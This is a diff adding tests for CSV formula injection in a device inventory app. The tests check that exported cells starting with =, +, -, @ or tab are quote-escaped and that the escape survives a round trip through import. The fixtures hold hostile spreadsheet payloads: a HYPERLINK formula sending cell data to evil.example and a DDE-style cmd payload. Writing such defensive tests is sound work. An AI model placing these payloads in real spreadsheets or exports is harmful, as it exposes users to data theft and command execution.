@@ -132,6 +132,58 @@ describe("export", () => {
   });
 });
 
+describe("formula injection (OWASP CSV injection)", () => {
+  let t: TestContext;
+  let admin: ReturnType<typeof api>;
+  // Every character a spreadsheet starts a formula with, in the fields a client writes freely.
+  const hostile = [
+    device('=HYPERLINK("http://evil.example/?x="&A1,"click")', { device_vendor: "Cisco", notes: "-", custom: { floor: -1, owner: "@SUM(1+1)" } }),
+    device("+cmd|'/C_calc'!A0", { device_vendor: "Cisco", notes: "\tindented", device_model: "-2+3" }),
+    device("'=already-quoted", { device_vendor: "Cisco", notes: "'@note", custom: { owner: "''+two-quotes" } }),
+    device("plain-name-01", { device_vendor: "Cisco", notes: "a=b, c-d and 'e'", device_model: "'not-a-formula" }),
+  ];
+  beforeAll(async () => {
+    t = await createTestContext();
+    admin = api(t, await t.token());
+    await admin.bulk(hostile);
+  });
+  afterAll(() => t.close());
+
+  it("exports a cell starting with =, +, -, @ or tab with a leading single quote, quoted, so it opens as text", async () => {
+    const res = await admin.export("sort=id&fields=device_name,device_model,custom,notes");
+    expect(res.status).toBe(200);
+    expect(res.text.split("\r\n")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",,"'-1","'@SUM(1+1)","'-"`);
+    const records = csvRecords(res.text);
+    expect(records.map((r) => [r.device_name, r.device_model, r["custom.floor"], r["custom.owner"], r.notes])).toEqual([
+      [`'${hostile[0]!.device_name}`, "", "'-1", "'@SUM(1+1)", "'-"],
+      ["'+cmd|'/C_calc'!A0", "'-2+3", "", "", "'\tindented"],
+      // a value that already starts with quotes before a formula character gets one more, so the import can undo exactly one
+      ["''=already-quoted", "", "", "'''+two-quotes", "''@note"],
+      // nothing else changes: a quote or a formula character later in the cell is not at its start
+      ["plain-name-01", "'not-a-formula", "", "", "a=b, c-d and 'e'"],
+    ]);
+  });
+
+  it("imports its own export back without changing a name, a note or an attribute", async () => {
+    const before = (await admin.list("sort=id")).data as Device[];
+    const exported = await admin.export("sort=id");
+    const res = await admin.upload(exported.text);
+    expect(res.body.data).toMatchObject({ created: 0, updated: hostile.length, rejected: 0 });
+    expect(res.body.data.rows.map((r: { device_name: string }) => r.device_name)).toEqual(hostile.map((d) => d.device_name));
+    const after = (await admin.list("sort=id")).data as Device[];
+    const stable = (d: Device) => ({ ...d, updated_at: undefined });
+    expect(after.map(stable)).toEqual(before.map(stable));
+    expect(after.map((d) => d.device_name)).toEqual(hostile.map((d) => d.device_name));
+  });
+
+  it("reads a leading quote before a formula character in an uploaded file as that escape", async () => {
+    const res = await admin.upload("device_name,device_ip,device_vendor,notes\r\n\"'=new-one-01\",192.0.2.20,Cisco,'-\r\n");
+    expect(res.body.data).toMatchObject({ created: 1, rejected: 0, rows: [{ device_name: "=new-one-01", action: "create" }] });
+    const created = (await admin.list("search=new-one-01")).data as Device[];
+    expect(created.map((d) => [d.device_name, d.notes])).toEqual([["=new-one-01", "-"]]);
+  });
+});
+
 describe("import", () => {
   let t: TestContext;
   let admin: ReturnType<typeof api>;
